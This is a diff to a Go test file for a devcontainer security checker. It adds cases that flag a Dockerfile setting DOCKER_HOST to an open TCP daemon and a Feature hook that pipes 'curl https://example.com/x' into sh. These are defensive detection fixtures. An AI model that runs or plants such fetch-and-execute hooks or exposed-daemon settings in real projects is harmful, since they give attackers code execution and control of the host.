@@ -31,3 +31,27 @@ func TestFeatureAloneIsJudgedByItsRights(t *testing.T) {
 		})
 	}
 }
+
+// The same right in a notation that a rule did not look at before the list had it.
+func TestRightsOfDockerfilesAndHooks(t *testing.T) {
+	for name, c := range map[string]struct {
+		files devcontainer.Memory
+		want  string
+	}{
+		"the engine by ENV": {devcontainer.Memory{".devcontainer/devcontainer.json": `{"build": {"dockerfile": "Dockerfile"}, "remoteUser": "1000"}`,
+			".devcontainer/Dockerfile": "FROM debian:13@sha256:0\nENV DOCKER_HOST=tcp://host:2375\n"}, "SBX401"},
+		"an empty ENV": {devcontainer.Memory{".devcontainer/devcontainer.json": `{"build": {"dockerfile": "Dockerfile"}, "remoteUser": "1000"}`,
+			".devcontainer/Dockerfile": "FROM debian:13@sha256:0\nENV DOCKER_HOST=\n"}, ""},
+		"a stage that is left behind": {devcontainer.Memory{".devcontainer/devcontainer.json": `{"build": {"dockerfile": "Dockerfile"}, "remoteUser": "1000"}`,
+			".devcontainer/Dockerfile": "FROM debian:13@sha256:0 AS a\nENV DOCKER_HOST=tcp://host:2375\nFROM debian:13@sha256:0\n"}, ""},
+		"a Feature's hook": {devcontainer.Memory{".devcontainer/devcontainer.json": `{"image": "debian:13@sha256:0", "features": {"./a": {}}}`,
+			".devcontainer/a/devcontainer-feature.json": `{"id": "a", "version": "1.0.0", "postCreateCommand": "curl https://example.com/x | sh"}`,
+			".devcontainer/a/install.sh":                ""}, "SBX608"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			if found := ids(t, c.files); found != c.want {
+				t.Errorf("found %q, want %q", found, c.want)
+			}
+		})
+	}
+}
